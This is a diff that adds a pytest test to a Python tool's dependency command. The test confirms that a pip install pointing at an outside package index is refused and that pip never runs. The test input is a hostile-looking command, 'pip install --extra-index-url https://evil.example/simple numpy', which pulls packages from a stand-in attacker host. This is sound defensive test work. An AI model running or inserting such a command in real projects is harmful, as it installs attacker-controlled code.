@@ -402,3 +402,16 @@ def test_test_coverage_without_pytest_cov_errs(examples: Path, capsys: pytest.Ca
     state = _state(examples, "test_coverage")
     assert state.machine.iteration_count == 2
     assert [e.status for e in state.history] == ["error", "error"]  # pytest-cov is not installed here
+
+
+def test_deps_refuses_a_pip_install_that_names_its_own_index(
+    examples: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    program = examples / PROGRAMS / "circle_packing/program.md"
+    program.write_text(program.read_text().replace(
+        "pip install -q numpy &&", "pip install -q --extra-index-url https://evil.example/simple numpy &&"))
+    ran: list[object] = []
+    monkeypatch.setattr("autoloop_py.commands.deps.subprocess.run", lambda *a, **k: ran.append(a))
+    assert main(["deps", "circle_packing", "--repo", str(examples), "--install"]) == 1
+    assert "pip option '--extra-index-url' is not passed on" in capsys.readouterr().err
+    assert ran == []  # pip never ran
